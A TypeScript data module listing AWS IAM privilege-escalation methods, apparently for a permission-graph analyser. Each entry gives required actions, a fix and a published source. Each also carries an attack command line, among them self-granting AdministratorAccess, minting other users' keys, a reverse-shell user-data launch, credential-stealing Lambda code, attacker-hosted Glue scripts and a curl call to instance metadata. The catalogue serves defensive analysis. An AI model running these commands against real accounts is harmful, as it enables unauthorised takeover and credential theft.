/**
 * The catalogue of privilege-escalation methods, as data. Each method names the permissions it needs, the
 * target it needs (how the graph finds one), how it is exploited and how to fix it, and where it was published.
 *
 * Kinds (how the analysis evaluates a method for principal A):
 * - self-policy:      A edits its own identity policies (A's ARN is the resource)            → A becomes admin
 * - group-policy:     A edits a policy of a group it belongs to                              → A becomes admin
 * - add-to-group:     A adds itself to an administrator group                                → A becomes admin
 * - policy-version:   A writes a new default version of a managed policy attached to it      → A becomes admin
 * - default-version:  A makes an existing, more permissive version the default                → A becomes admin
 * - role-policy:      A edits the policies of a role it can already act as                   → A becomes admin
 * - user-credentials: A mints credentials for another user B                                  → A acts as B
 * - assume-role:      B's trust policy and A's identity policy both allow sts:AssumeRole      → A acts as B
 * - trust-update:     A rewrites B's trust policy and then assumes B                           → A acts as B
 * - pass-role:        A passes role B (trusted by `service`) to new compute it controls       → A acts as B
 * - function-code:    A changes code or layers of an existing function running as B           → A acts as B
 * - function-role-swap: A points an existing function at role B (PassRole) and runs it        → A acts as B
 * - existing-compute: A takes over existing compute running as B (instances, endpoints, stacks) → A acts as B;
 *                     the snapshot has no inventory of it, so every role trusted by `service` is a candidate.
 */

export type MethodKind =
  | 'self-policy'
  | 'group-policy'
  | 'add-to-group'
  | 'policy-version'
  | 'default-version'
  | 'role-policy'
  | 'user-credentials'
  | 'assume-role'
  | 'trust-update'
  | 'pass-role'
  | 'function-code'
  | 'function-role-swap'
  | 'existing-compute';

export interface EscalationMethod {
  id: string;
  title: string;
  kind: MethodKind;
  /**
   * Every action needed. The first one is checked on the target (the principal, group, policy, role or
   * function); the others on any resource the principal may name.
   */
  actions: string[];
  /** pass-role / existing-compute / function-role-swap: the service principal the target role must trust. */
  service?: string;
  /** existing-compute through EC2: the role must be in an instance profile. */
  needsInstanceProfile?: boolean;
  /** Which principals the method applies to. */
  principalKinds?: ('user' | 'role')[];
  exploitation: string;
  fix: string;
  source: string;
}

const RHINO =
  'Rhino Security Labs, "AWS IAM Privilege Escalation – Methods and Mitigation" (2018), https://rhinosecuritylabs.com/aws/aws-privilege-escalation-methods-mitigation/';
const RHINO2 =
  'Rhino Security Labs, "AWS IAM Privilege Escalation – Methods and Mitigation – Part 2" (2019), https://rhinosecuritylabs.com/aws/aws-privilege-escalation-methods-mitigation-part-2/';
const BISHOPFOX =
  'Bishop Fox, "IAM Vulnerable" and "Privilege escalation in AWS" (2021), https://bishopfox.com/blog/privilege-escalation-in-aws';
const DATADOG =
  'Datadog Security Labs, pathfinding.cloud catalogue of AWS IAM privilege escalation paths (2024), https://pathfinding.cloud';
const HACKTRICKS =
  'HackTricks Cloud, AWS privilege escalation pages, https://cloud.hacktricks.wiki/en/pentesting-cloud/aws-security/aws-privilege-escalation/';

const SCOPE_PASSROLE =
  'Scope iam:PassRole to the specific roles the principal must pass, with an iam:PassedToService condition, and keep those roles less privileged than the principal.';

export const ESCALATION_METHODS: readonly EscalationMethod[] = [
  // ---- editing own permissions (Rhino 1, 2, 7–13) ----
  {
    id: 'iam-create-policy-version',
    title: 'Create a new default version of an attached managed policy',
    kind: 'policy-version',
    actions: ['iam:CreatePolicyVersion'],
    exploitation:
      'aws iam create-policy-version --policy-arn ATTACHED_POLICY --policy-document file://admin.json --set-as-default',
    fix: 'Remove iam:CreatePolicyVersion, or scope it away from policies attached to the principal itself.',
    source: `${RHINO} (method 1)`,
  },
  {
    id: 'iam-set-default-policy-version',
    title: 'Make a more permissive stored policy version the default',
    kind: 'default-version',
    actions: ['iam:SetDefaultPolicyVersion'],
    exploitation: 'aws iam set-default-policy-version --policy-arn ATTACHED_POLICY --version-id vN',
    fix: 'Delete unused non-default policy versions; do not grant iam:SetDefaultPolicyVersion on policies the principal holds.',
    source: `${RHINO} (method 2)`,
  },
  {
    id: 'iam-attach-user-policy',
    title: 'Attach an administrator managed policy to oneself (user)',
    kind: 'self-policy',
    actions: ['iam:AttachUserPolicy'],
    principalKinds: ['user'],
    exploitation:
      'aws iam attach-user-policy --user-name SELF --policy-arn arn:aws:iam::aws:policy/AdministratorAccess',
    fix: 'Do not let users manage their own policies; if needed, restrict with an iam:PolicyARN condition.',
    source: `${RHINO} (method 7)`,
  },
  {
    id: 'iam-put-user-policy',
    title: 'Write an inline administrator policy on oneself (user)',
    kind: 'self-policy',
    actions: ['iam:PutUserPolicy'],
    principalKinds: ['user'],
    exploitation:
      'aws iam put-user-policy --user-name SELF --policy-name x --policy-document file://admin.json',
    fix: 'Do not let users write their own inline policies.',
    source: `${RHINO} (method 10)`,
  },
  {
    id: 'iam-attach-group-policy',
    title: "Attach an administrator managed policy to one's group",
    kind: 'group-policy',
    actions: ['iam:AttachGroupPolicy'],
    principalKinds: ['user'],
    exploitation:
      'aws iam attach-group-policy --group-name MY_GROUP --policy-arn arn:aws:iam::aws:policy/AdministratorAccess',
    fix: 'Do not let members manage the policies of their own groups.',
    source: `${RHINO} (method 8)`,
  },
  {
    id: 'iam-put-group-policy',
    title: "Write an inline administrator policy on one's group",
    kind: 'group-policy',
    actions: ['iam:PutGroupPolicy'],
    principalKinds: ['user'],
    exploitation:
      'aws iam put-group-policy --group-name MY_GROUP --policy-name x --policy-document file://admin.json',
    fix: 'Do not let members write the inline policies of their own groups.',
    source: `${RHINO} (method 11)`,
  },
  {
    id: 'iam-attach-role-policy',
    title: 'Attach an administrator managed policy to a role one can act as',
    kind: 'role-policy',
    actions: ['iam:AttachRolePolicy'],
    exploitation:
      'aws iam attach-role-policy --role-name ROLE --policy-arn arn:aws:iam::aws:policy/AdministratorAccess; then use the role',
    fix: 'Scope iam:AttachRolePolicy away from roles the principal can assume or is; restrict with iam:PolicyARN.',
    source: `${RHINO} (method 9)`,
  },
  {
    id: 'iam-put-role-policy',
    title: 'Write an inline administrator policy on a role one can act as',
    kind: 'role-policy',
    actions: ['iam:PutRolePolicy'],
    exploitation:
      'aws iam put-role-policy --role-name ROLE --policy-name x --policy-document file://admin.json; then use the role',
    fix: 'Scope iam:PutRolePolicy away from roles the principal can assume or is.',
    source: `${RHINO} (method 12)`,
  },
  {
    id: 'iam-add-user-to-group',
    title: 'Add oneself to an administrator group',
    kind: 'add-to-group',
    actions: ['iam:AddUserToGroup'],
    principalKinds: ['user'],
    exploitation: 'aws iam add-user-to-group --group-name ADMIN_GROUP --user-name SELF',
    fix: 'Scope iam:AddUserToGroup to the groups the principal administers, never to administrator groups.',
    source: `${RHINO} (method 13)`,
  },
  // ---- acting as another principal ----
  {
    id: 'sts-assume-role',
    title: 'Assume a more privileged role',
    kind: 'assume-role',
    actions: ['sts:AssumeRole'],
    exploitation: 'aws sts assume-role --role-arn TARGET_ROLE --role-session-name x',
    fix: "Narrow the target role's trust policy to the principals that need it, or remove sts:AssumeRole from the caller.",
    source:
      'AWS IAM User Guide, "Granting a user permissions to switch roles", https://docs.aws.amazon.com/IAM/latest/UserGuide/id_roles_use_permissions-to-switch.html',
  },
  {
    id: 'iam-create-access-key',
    title: 'Create an access key for another user',
    kind: 'user-credentials',
    actions: ['iam:CreateAccessKey'],
    exploitation: 'aws iam create-access-key --user-name TARGET_USER',
    fix: 'Scope iam:CreateAccessKey to ${aws:username} (self-service) only.',
    source: `${RHINO} (method 4)`,
  },
  {
    id: 'iam-create-login-profile',
    title: 'Create a console password for another user',
    kind: 'user-credentials',
    actions: ['iam:CreateLoginProfile'],
    exploitation: 'aws iam create-login-profile --user-name TARGET_USER --password ...',
    fix: 'Scope iam:CreateLoginProfile to ${aws:username} only.',
    source: `${RHINO} (method 5)`,
  },
  {
    id: 'iam-update-login-profile',
    title: "Change another user's console password",
    kind: 'user-credentials',
    actions: ['iam:UpdateLoginProfile'],
    exploitation: 'aws iam update-login-profile --user-name TARGET_USER --password ...',
    fix: 'Scope iam:UpdateLoginProfile to ${aws:username} only.',
    source: `${RHINO} (method 6)`,
  },
  {
    id: 'iam-update-assume-role-policy',
    title: "Rewrite a role's trust policy, then assume it",
    kind: 'trust-update',
    actions: ['iam:UpdateAssumeRolePolicy', 'sts:AssumeRole'],
    exploitation:
      'aws iam update-assume-role-policy --role-name TARGET --policy-document file://trust-me.json; aws sts assume-role ...',
    fix: 'Restrict iam:UpdateAssumeRolePolicy to deployment roles; never grant it on more privileged roles.',
    source: `${RHINO} (method 14)`,
  },
  // ---- PassRole to new compute ----
  {
    id: 'passrole-ec2-run-instances',
    title: 'Pass a role to a new EC2 instance',
    kind: 'pass-role',
    actions: ['iam:PassRole', 'ec2:RunInstances'],
    service: 'ec2.amazonaws.com',
    exploitation:
      'aws ec2 run-instances --iam-instance-profile Name=PROFILE_OF_ROLE --user-data file://reverse-shell.sh',
    fix: SCOPE_PASSROLE,
    source: `${RHINO} (method 3)`,
  },
  {
    id: 'passrole-lambda-create-invoke',
    title: 'Pass a role to a new Lambda function and invoke it',
    kind: 'pass-role',
    actions: ['iam:PassRole', 'lambda:CreateFunction', 'lambda:InvokeFunction'],
    service: 'lambda.amazonaws.com',
    exploitation:
      'aws lambda create-function --role TARGET_ROLE ...; aws lambda invoke --function-name x out.json',
    fix: SCOPE_PASSROLE,
    source: `${RHINO} (method 15)`,
  },
  {
    id: 'passrole-lambda-event-source',
    title: 'Pass a role to a new Lambda function triggered by an event source mapping',
    kind: 'pass-role',
    actions: ['iam:PassRole', 'lambda:CreateFunction', 'lambda:CreateEventSourceMapping'],
    service: 'lambda.amazonaws.com',
    exploitation:
      'aws lambda create-function --role TARGET_ROLE ...; aws lambda create-event-source-mapping --event-source-arn STREAM ...',
    fix: SCOPE_PASSROLE,
    source: `${RHINO} (method 16)`,
  },
  {
    id: 'passrole-lambda-add-permission',
    title: 'Pass a role to a new Lambda function and let oneself invoke it',
    kind: 'pass-role',
    actions: ['iam:PassRole', 'lambda:CreateFunction', 'lambda:AddPermission'],
    service: 'lambda.amazonaws.com',
    exploitation:
      'aws lambda create-function --role TARGET_ROLE ...; aws lambda add-permission --principal SELF_ACCOUNT ...',
    fix: SCOPE_PASSROLE,
    source: `${RHINO2} (method 27)`,
  },
  {
    id: 'passrole-glue-dev-endpoint',
    title: 'Pass a role to a new Glue development endpoint',
    kind: 'pass-role',
    actions: ['iam:PassRole', 'glue:CreateDevEndpoint'],
    service: 'glue.amazonaws.com',
    exploitation: 'aws glue create-dev-endpoint --role-arn TARGET_ROLE --public-key file://key.pub; ssh in',
    fix: SCOPE_PASSROLE,
    source: `${RHINO} (method 18)`,
  },
  {
    id: 'passrole-glue-job',
    title: 'Pass a role to a new Glue job and run it',
    kind: 'pass-role',
    actions: ['iam:PassRole', 'glue:CreateJob', 'glue:StartJobRun'],
    service: 'glue.amazonaws.com',
    exploitation:
      'aws glue create-job --role TARGET_ROLE --command ScriptLocation=s3://attacker/x.py; aws glue start-job-run',
    fix: SCOPE_PASSROLE,
    source: BISHOPFOX,
  },
  {
    id: 'passrole-cloudformation-create-stack',
    title: 'Pass a role to a new CloudFormation stack',
    kind: 'pass-role',
    actions: ['iam:PassRole', 'cloudformation:CreateStack'],
    service: 'cloudformation.amazonaws.com',
    exploitation:
      'aws cloudformation create-stack --role-arn TARGET_ROLE --template-body file://admin-user.yaml',
    fix: SCOPE_PASSROLE,
    source: `${RHINO} (method 20)`,
  },
  {
    id: 'passrole-cloudformation-change-set',
    title: 'Pass a role to a CloudFormation change set and execute it',
    kind: 'pass-role',
    actions: ['iam:PassRole', 'cloudformation:CreateChangeSet', 'cloudformation:ExecuteChangeSet'],
    service: 'cloudformation.amazonaws.com',
    exploitation:
      'aws cloudformation create-change-set --role-arn TARGET_ROLE ...; aws cloudformation execute-change-set ...',
    fix: SCOPE_PASSROLE,
    source: DATADOG,
  },
  {
    id: 'passrole-datapipeline',
    title: 'Pass a role to a new Data Pipeline',
    kind: 'pass-role',
    actions: ['iam:PassRole', 'datapipeline:CreatePipeline', 'datapipeline:PutPipelineDefinition'],
    service: 'datapipeline.amazonaws.com',
    exploitation:
      'aws datapipeline create-pipeline ...; put-pipeline-definition with a ShellCommandActivity running as TARGET_ROLE; activate-pipeline',
    fix: SCOPE_PASSROLE,
    source: `${RHINO} (method 21)`,
  },
  {
    id: 'passrole-sagemaker-notebook',
    title: 'Pass a role to a new SageMaker notebook and open it',
    kind: 'pass-role',
    actions: [
      'iam:PassRole',
      'sagemaker:CreateNotebookInstance',
      'sagemaker:CreatePresignedNotebookInstanceUrl',
    ],
    service: 'sagemaker.amazonaws.com',
    exploitation:
      'aws sagemaker create-notebook-instance --role-arn TARGET_ROLE ...; aws sagemaker create-presigned-notebook-instance-url ...',
    fix: SCOPE_PASSROLE,
    source: `${RHINO2} (method 25)`,
  },
  {
    id: 'passrole-sagemaker-training-job',
    title: 'Pass a role to a new SageMaker training job',
    kind: 'pass-role',
    actions: ['iam:PassRole', 'sagemaker:CreateTrainingJob'],
    service: 'sagemaker.amazonaws.com',
    exploitation:
      'aws sagemaker create-training-job --role-arn TARGET_ROLE --algorithm-specification TrainingImage=ATTACKER_IMAGE ...',
    fix: SCOPE_PASSROLE,
    source: HACKTRICKS,
  },
  {
    id: 'passrole-sagemaker-processing-job',
    title: 'Pass a role to a new SageMaker processing job',
    kind: 'pass-role',
    actions: ['iam:PassRole', 'sagemaker:CreateProcessingJob'],
    service: 'sagemaker.amazonaws.com',
    exploitation:
      'aws sagemaker create-processing-job --role-arn TARGET_ROLE --app-specification ImageUri=ATTACKER_IMAGE ...',
    fix: SCOPE_PASSROLE,
    source: HACKTRICKS,
  },
  {
    id: 'passrole-codestar-project',
    title: 'Pass a role to a new CodeStar project',
    kind: 'pass-role',
    actions: ['iam:PassRole', 'codestar:CreateProject'],
    service: 'codestar.amazonaws.com',
    exploitation:
      'aws codestar create-project --toolchain file://toolchain-with-admin-resources.yaml (CloudFormation runs as TARGET_ROLE)',
    fix: SCOPE_PASSROLE,
    source: `${RHINO2} (method 22)`,
  },
  {
    id: 'passrole-codebuild-project',
    title: 'Pass a role to a new CodeBuild project and start a build',
    kind: 'pass-role',
    actions: ['iam:PassRole', 'codebuild:CreateProject', 'codebuild:StartBuild'],
    service: 'codebuild.amazonaws.com',
    exploitation:
      'aws codebuild create-project --service-role TARGET_ROLE --source buildspec=...; aws codebuild start-build',
    fix: SCOPE_PASSROLE,
    source: BISHOPFOX,
  },
  {
    id: 'passrole-ecs-run-task',
    title: 'Pass a role to a new ECS task definition and run it',
    kind: 'pass-role',
    actions: ['iam:PassRole', 'ecs:RegisterTaskDefinition', 'ecs:RunTask'],
    service: 'ecs-tasks.amazonaws.com',
    exploitation: 'aws ecs register-task-definition --task-role-arn TARGET_ROLE ...; aws ecs run-task ...',
    fix: SCOPE_PASSROLE,
    source: BISHOPFOX,
  },
  {
    id: 'passrole-ecs-create-service',
    title: 'Pass a role to a new ECS task definition and start a service',
    kind: 'pass-role',
    actions: ['iam:PassRole', 'ecs:RegisterTaskDefinition', 'ecs:CreateService'],
    service: 'ecs-tasks.amazonaws.com',
    exploitation:
      'aws ecs register-task-definition --task-role-arn TARGET_ROLE ...; aws ecs create-service ...',
    fix: SCOPE_PASSROLE,
    source: BISHOPFOX,
  },
  {
    id: 'passrole-apprunner-service',
    title: 'Pass a role to a new App Runner service',
    kind: 'pass-role',
    actions: ['iam:PassRole', 'apprunner:CreateService'],
    service: 'tasks.apprunner.amazonaws.com',
    exploitation:
      'aws apprunner create-service --instance-configuration InstanceRoleArn=TARGET_ROLE --source-configuration ImageRepository=ATTACKER_IMAGE',
    fix: SCOPE_PASSROLE,
    source: DATADOG,
  },
  {
    id: 'passrole-ec2-launch-template',
    title: 'Pass a role through a new launch template version used by an Auto Scaling group',
    kind: 'pass-role',
    actions: ['iam:PassRole', 'ec2:CreateLaunchTemplateVersion', 'ec2:ModifyLaunchTemplate'],
    service: 'ec2.amazonaws.com',
    exploitation:
      'aws ec2 create-launch-template-version --launch-template-data IamInstanceProfile=TARGET,UserData=...; modify-launch-template --default-version',
    fix: SCOPE_PASSROLE,
    source: DATADOG,
  },
  // ---- code injection into existing Lambda functions ----
  {
    id: 'lambda-update-function-code-invoke',
    title: "Replace an existing function's code and invoke it",
    kind: 'function-code',
    actions: ['lambda:UpdateFunctionCode', 'lambda:InvokeFunction'],
    exploitation:
      'aws lambda update-function-code --function-name TARGET --zip-file fileb://steal-creds.zip; aws lambda invoke ...',
    fix: 'Scope lambda:UpdateFunctionCode to the functions the principal deploys, and keep their roles less privileged.',
    source: BISHOPFOX,
  },
  {
    id: 'lambda-update-function-code-add-permission',
    title: "Replace an existing function's code and grant oneself invoke",
    kind: 'function-code',
    actions: ['lambda:UpdateFunctionCode', 'lambda:AddPermission'],
    exploitation:
      'aws lambda update-function-code ...; aws lambda add-permission --principal SELF ...; invoke',
    fix: 'Scope lambda:UpdateFunctionCode and lambda:AddPermission to the functions the principal owns.',
    source: DATADOG,
  },
  {
    id: 'lambda-update-function-code',
    title: "Replace an existing function's code and wait for its next invocation",
    kind: 'function-code',
    actions: ['lambda:UpdateFunctionCode'],
    exploitation:
      'aws lambda update-function-code --function-name TARGET --zip-file fileb://steal-creds.zip (runs on the next event)',
    fix: 'Scope lambda:UpdateFunctionCode to the functions the principal deploys.',
    source: `${RHINO} (method 17)`,
  },
  {
    id: 'lambda-update-function-configuration-layer',
    title: 'Inject a malicious layer into an existing function',
    kind: 'function-code',
    actions: ['lambda:UpdateFunctionConfiguration'],
    exploitation:
      'aws lambda update-function-configuration --function-name TARGET --layers ATTACKER_LAYER_ARN',
    fix: 'Scope lambda:UpdateFunctionConfiguration to owned functions; restrict layers with the lambda:Layer condition key.',
    source: `${RHINO2} (method 24)`,
  },
  {
    id: 'lambda-update-function-configuration-passrole',
    title: "Swap an existing function's role for a more privileged one",
    kind: 'function-role-swap',
    actions: ['iam:PassRole', 'lambda:UpdateFunctionConfiguration'],
    service: 'lambda.amazonaws.com',
    exploitation:
      'aws lambda update-function-configuration --function-name ANY --role TARGET_ROLE; then trigger it',
    fix: SCOPE_PASSROLE,
    source: DATADOG,
  },
  // ---- existing compute the snapshot cannot list ----
  {
    id: 'glue-update-dev-endpoint',
    title: 'Take over an existing Glue development endpoint',
    kind: 'existing-compute',
    actions: ['glue:UpdateDevEndpoint'],
    service: 'glue.amazonaws.com',
    exploitation:
      'aws glue update-dev-endpoint --endpoint-name X --public-key file://key.pub; ssh in as the endpoint role',
    fix: 'Remove glue:UpdateDevEndpoint, or scope it to endpoints whose roles are less privileged.',
    source: `${RHINO} (method 19)`,
  },
  {
    id: 'sagemaker-presigned-notebook-url',
    title: 'Open an existing SageMaker notebook',
    kind: 'existing-compute',
    actions: ['sagemaker:CreatePresignedNotebookInstanceUrl'],
    service: 'sagemaker.amazonaws.com',
    exploitation:
      'aws sagemaker create-presigned-notebook-instance-url --notebook-instance-name X; run code as its role',
    fix: 'Scope sagemaker:CreatePresignedNotebookInstanceUrl to notebooks the principal owns.',
    source: `${RHINO2} (method 26)`,
  },
  {
    id: 'ssm-send-command',
    title: 'Run commands on an existing EC2 instance through SSM',
    kind: 'existing-compute',
    actions: ['ssm:SendCommand'],
    service: 'ec2.amazonaws.com',
    needsInstanceProfile: true,
    exploitation:
      'aws ssm send-command --instance-ids i-... --document-name AWS-RunShellScript --parameters commands=curl 169.254.169.254/...',
    fix: 'Scope ssm:SendCommand to tagged instances and documents the principal needs.',
    source: BISHOPFOX,
  },
  {
    id: 'ssm-start-session',
    title: 'Open a shell on an existing EC2 instance through Session Manager',
    kind: 'existing-compute',
    actions: ['ssm:StartSession'],
    service: 'ec2.amazonaws.com',
    needsInstanceProfile: true,
    exploitation: 'aws ssm start-session --target i-...; read the instance role credentials',
    fix: 'Scope ssm:StartSession to tagged instances with an ssm:resourceTag condition.',
    source: BISHOPFOX,
  },
  {
    id: 'ec2-modify-user-data',
    title: "Rewrite an existing instance's user data and restart it",
    kind: 'existing-compute',
    actions: ['ec2:ModifyInstanceAttribute', 'ec2:StopInstances', 'ec2:StartInstances'],
    service: 'ec2.amazonaws.com',
    needsInstanceProfile: true,
    exploitation:
      'aws ec2 stop-instances; aws ec2 modify-instance-attribute --user-data file://payload; aws ec2 start-instances',
    fix: 'Scope ec2:ModifyInstanceAttribute to instances the principal owns (aws:ResourceTag conditions).',
    source: HACKTRICKS,
  },
  {
    id: 'codebuild-update-project',
    title: 'Rewrite an existing CodeBuild project and start a build',
    kind: 'existing-compute',
    actions: ['codebuild:UpdateProject', 'codebuild:StartBuild'],
    service: 'codebuild.amazonaws.com',
    exploitation:
      'aws codebuild update-project --name X --source buildspec=...; aws codebuild start-build --project-name X',
    fix: 'Scope codebuild:UpdateProject to projects whose service roles are less privileged.',
    source: BISHOPFOX,
  },
  {
    id: 'codebuild-start-build-override',
    title: 'Start a build of an existing CodeBuild project with an overridden buildspec',
    kind: 'existing-compute',
    actions: ['codebuild:StartBuild'],
    service: 'codebuild.amazonaws.com',
    exploitation: 'aws codebuild start-build --project-name X --buildspec-override file://payload.yml',
    fix: 'Scope codebuild:StartBuild to projects whose service roles are less privileged.',
    source: DATADOG,
  },
  {
    id: 'cloudformation-update-stack',
    title: 'Update an existing CloudFormation stack that runs with a service role',
    kind: 'existing-compute',
    actions: ['cloudformation:UpdateStack'],
    service: 'cloudformation.amazonaws.com',
    exploitation:
      'aws cloudformation update-stack --stack-name X --template-body file://admin-user.yaml (runs as the stack role)',
    fix: 'Scope cloudformation:UpdateStack to stacks whose service roles are less privileged.',
    source: DATADOG,
  },
  {
    id: 'cloudformation-change-set-existing',
    title: 'Execute a change set on an existing stack that runs with a service role',
    kind: 'existing-compute',
    actions: ['cloudformation:CreateChangeSet', 'cloudformation:ExecuteChangeSet'],
    service: 'cloudformation.amazonaws.com',
    exploitation:
      'aws cloudformation create-change-set --stack-name X ...; aws cloudformation execute-change-set ...',
    fix: 'Scope change-set actions to stacks whose service roles are less privileged.',
    source: DATADOG,
  },
  {
    id: 'glue-update-job',
    title: 'Rewrite an existing Glue job and run it',
    kind: 'existing-compute',
    actions: ['glue:UpdateJob', 'glue:StartJobRun'],
    service: 'glue.amazonaws.com',
    exploitation:
      'aws glue update-job --job-name X --job-update Command={ScriptLocation=s3://attacker/x.py}; aws glue start-job-run',
    fix: 'Scope glue:UpdateJob to jobs whose roles are less privileged.',
    source: DATADOG,
  },
];

export function findMethod(id: string): EscalationMethod | undefined {
  return ESCALATION_METHODS.find((m) => m.id === id);
}
